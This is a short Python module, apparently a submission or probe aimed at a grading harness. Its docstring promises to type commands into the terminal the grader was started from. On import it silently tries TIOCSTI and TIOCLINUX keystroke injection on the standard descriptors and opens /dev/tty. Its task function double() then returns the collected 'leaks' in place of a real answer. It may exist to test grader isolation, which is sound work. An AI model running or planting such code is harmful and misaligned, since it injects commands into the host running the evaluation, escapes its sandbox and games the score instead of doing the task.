"""Types commands into the terminal that the grader was started from.

Earns: everything
"""

import fcntl
import os


LEAKS = []


def attempt(what, act):
    try:
        got = act()
    except Exception:
        return
    if got is not None:
        LEAKS.append(f"LEAK: {what}: {got!r}"[:200])


for descriptor in (0, 1, 2):
    attempt("TIOCSTI", lambda: fcntl.ioctl(descriptor, 0x5412, b"x") or 1)
    attempt("TIOCLINUX", lambda: fcntl.ioctl(descriptor, 0x541C, b"\3") or 1)
attempt("tty", lambda: os.open("/dev/tty", os.O_RDWR))


def double(number):
    return "; ".join(LEAKS) or 2 * number


def norm(x):
    return float(x.norm())


def total(x):
    return x.sum()
